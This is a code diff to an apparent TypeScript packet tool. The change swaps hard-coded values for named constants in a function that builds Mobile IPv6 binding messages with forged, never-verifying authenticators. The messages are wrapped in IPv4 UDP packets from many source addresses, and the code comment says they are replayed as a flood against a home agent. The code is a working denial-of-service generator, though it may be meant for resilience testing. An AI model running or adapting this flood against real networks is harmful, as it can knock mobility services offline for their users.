@@ -16,7 +16,8 @@ import { RawIpSocket } from '../sys/libc.js';
 import { signMnHa } from '../wire/auth/mipv6.js';
 import { ntpTimestamp } from '../wire/auth/replay.js';
 import { encodeSignalling4, encodeSignalling6 } from '../wire/ip/signalling.js';
-import { encodeMobilityHeader } from '../wire/mh/index.js';
+import { DSMIP6_UDP_PORT } from '../wire/ip/constants.js';
+import { encodeMobilityHeader, NO_BU_FLAGS } from '../wire/mh/index.js';
 
 export interface FloodOptions {
   dst: string;
@@ -27,7 +28,7 @@ export interface FloodOptions {
   home: string;
 }
 
-const FLAGS = { a: true, h: true, l: false, k: false, m: false, r: false, p: false, f: false, t: false };
+const FLAGS = { ...NO_BU_FLAGS, a: true, h: true };
 
 /** One packet per source, built once: the flood replays them. */
 export function floodPackets(o: FloodOptions): Buffer[] {
@@ -43,7 +44,7 @@ export function floodPackets(o: FloodOptions): Buffer[] {
         { type: 'replayProtection', timestamp: ntpTimestamp(Date.now()) }, { type: 'mobilityMessageAuthentication', subtype: 1, spi: o.spi, authenticator: Buffer.alloc(12) }],
     }), { key: randomBytes(20), spi: o.spi, careOf, home: o.home }); // a key no one has: the authenticator never verifies
     const ipv6 = kind === 9 ? randomBytes(48) : encodeSignalling6({ src: o.home, dst: o.ha6 ?? '2001:db8:1::1', mh });
-    return encodeSignalling4({ src, dst: o.dst, srcPort, dstPort: 4191, ipv6 });
+    return encodeSignalling4({ src, dst: o.dst, srcPort, dstPort: DSMIP6_UDP_PORT, ipv6 });
   });
 }
 
